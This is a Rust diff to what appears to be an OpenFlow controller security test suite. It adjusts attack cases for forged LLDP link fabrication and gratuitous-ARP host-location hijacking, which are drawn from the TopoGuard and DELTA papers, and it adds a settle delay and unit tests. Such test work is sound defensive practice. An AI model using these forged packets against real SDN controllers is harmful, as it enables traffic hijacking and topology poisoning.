@@ -16,6 +16,9 @@ pub const FORGED_LLDP_SRC: [u8; 6] = [0x02, 0xbd, 0x11, 0xd9, 0, 1];
 /// How many idle TCP connections the connection flood opens (below the engine's file limit).
 pub const IDLE_CONNECTIONS: u32 = 200;
 
+/// Settle time after the handshake before a view attack (the controller registers ports first).
+pub const SETTLE_MS: u64 = 500;
+
 fn hello(ctx: &Ctx) -> Vec<u8> {
     emit(ctx.version, 0x0bad_0100, Body::Hello(Hello::with_versions(&[ctx.version])))
 }
@@ -26,10 +29,14 @@ pub fn forged_lldp(ctx: &Ctx) -> Vec<u8> {
     packet_in(ctx.version, 0x0bad_0101, 1, frame)
 }
 
-/// A gratuitous ARP from the victim switch's host 0 (its MAC and IP), seen on our port 1.
+/// The victim host: host 1 of the victim switch (the engine's learning phase announces hosts
+/// 1..=n, so the controller has seen it at the victim first; host 0's MAC would be all zeros).
+pub const VICTIM_HOST: u32 = 1;
+
+/// A gratuitous ARP from the victim switch's host 1 (its MAC and IP), seen on our port 1.
 pub fn hijacking_arp(ctx: &Ctx) -> Vec<u8> {
-    let mac = ofswitch::frames::host_mac(ctx.victim_index, 0);
-    let ip = ofswitch::frames::host_ip(ctx.victim_index, 0, ctx.macs);
+    let mac = ofswitch::frames::host_mac(ctx.victim_index, VICTIM_HOST);
+    let ip = ofswitch::frames::host_ip(ctx.victim_index, VICTIM_HOST, ctx.macs);
     packet_in(ctx.version, 0x0bad_0102, 1, ofwire::frame::build::gratuitous_arp(mac, ip))
 }
 
@@ -43,12 +50,12 @@ pub static ATTACKS: &[Case] = &[
         what: "an LLDP packet-in, forged to say it left the victim's port 1, arriving on the attacker's port 1 (a link that does not exist); repeated 3 times",
         source: "TopoGuard (NDSS 2015) link fabrication",
         expect: "no link in the controller's topology view (judged from the topology view where the controller has one)",
-        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c))] },
+        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Wait { ms: SETTLE_MS }, Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c))] },
     Case { name: "host-hijack", family: "network", applies: Applies::Both,
         what: "a gratuitous ARP with a background switch's host MAC and IP, arriving on the attacker's port 1 (the host seems to move)",
         source: "TopoGuard (NDSS 2015) host location hijacking",
         expect: "the move refused or verified; traffic to that host must not follow the attacker (judged from flows/host view)",
-        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Send(hijacking_arp(c))] },
+        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Wait { ms: SETTLE_MS }, Step::Send(hijacking_arp(c))] },
     Case { name: "handshake-never-finished", family: "network", applies: Applies::Both,
         what: "HELLO, then never a features reply nor an echo reply",
         source: "DELTA (NDSS 2017) handshake manipulation",
@@ -92,7 +99,8 @@ mod tests {
         let c = Ctx { victim_index: 3, ..Ctx::default() };
         let m = ofwire::Message::parse(&hijacking_arp(&c)).unwrap();
         let Body::PacketIn(p) = m.body else { panic!() };
-        assert_eq!(&p.data[6..12], &ofswitch::frames::host_mac(3, 0));
+        assert_eq!(&p.data[6..12], &ofswitch::frames::host_mac(3, 1));
+        assert_eq!(&p.data[6..12], &[0, 0, 0, 3, 0, 1]);
         assert_eq!(p.port(ofwire::version::Version::V13), Some(1));
     }
 
